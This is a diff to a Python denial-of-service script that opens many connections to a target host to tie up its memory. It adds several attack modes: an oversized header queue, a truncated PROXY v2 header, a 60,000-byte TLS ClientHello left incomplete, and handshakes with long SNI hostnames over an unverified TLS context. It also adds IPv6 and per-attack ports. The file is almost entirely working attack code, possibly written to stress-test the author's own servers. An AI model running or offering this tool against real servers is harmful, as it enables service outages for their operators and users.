@@ -1,6 +1,7 @@
-"""argv[3] clients of argv[2]:80 that have the server hold as much as they can by argv[1], and take nothing.
+"""argv[3] clients of argv[2] that have the server hold as much as they can by argv[1], and take nothing.
 Says "sent" when all is sent that it takes, and stays."""
 import socket
+import ssl
 import sys
 import time
 
@@ -72,22 +73,46 @@ def http1():
         return [b"GET /interim" + head + b"\r\n"]
     if attack == "http1-pipelined":
         return [(b"GET /" + head + b"\r\n") * 5000]
+    if attack == "queue":
+        return [b"GET /" + head + b"".join(b"f%d: %s\r\n" % (i, b"v" * 600) for i in range(95)) + b"\r\n"]
     post = b"POST /" + head
     if attack == "http1-upload":
         return [post + b"Content-Length: 100000000\r\n\r\n", b"x" * 8_000_000]
     return [post + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 5000]
 
 
+def before_http(client, number):
+    """Whether the attack does not come to HTTP."""
+    if attack == "proxy-header":
+        # Version 2, IPv6, more facts than have come.
+        client.sendall(b"\r\n\r\n\0\r\nQUIT\n\x21\x21" + (4000).to_bytes(2, "big") + b"x" * 3900)
+    elif attack == "hello":
+        # A ClientHello of 60,000 bytes, the last of which is missing.
+        hello = b"\x01" + (60_000).to_bytes(3, "big") + b"\x03\x03" + b"x" * 59_900
+        for at in range(0, len(hello), 16_000):
+            part = hello[at : at + 16_000]
+            client.sendall(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part)
+    elif attack == "names":
+        context = ssl._create_unverified_context()
+        context.wrap_socket(client, server_hostname=f"{'n' * 60}.{'n' * 60}.{number}.example").close()
+    else:
+        return False
+    return True
+
+
+PORTS = {"hello": 443, "names": 443, "queue": 81}
 clients = []
-for _ in range(count):
-    client = socket.socket()
+for number in range(count):
+    client = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
     client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-    client.connect((address, 80))
+    client.connect((address, PORTS.get(attack, 80)))
     client.settimeout(1)
     clients.append(client)
     frames = http2()
     try:
-        if frames is None:
+        if before_http(client, number):
+            pass
+        elif frames is None:
             client.sendall(b"".join(http1()))
         else:
             window = (4).to_bytes(2, "big") + (2**20).to_bytes(4, "big")
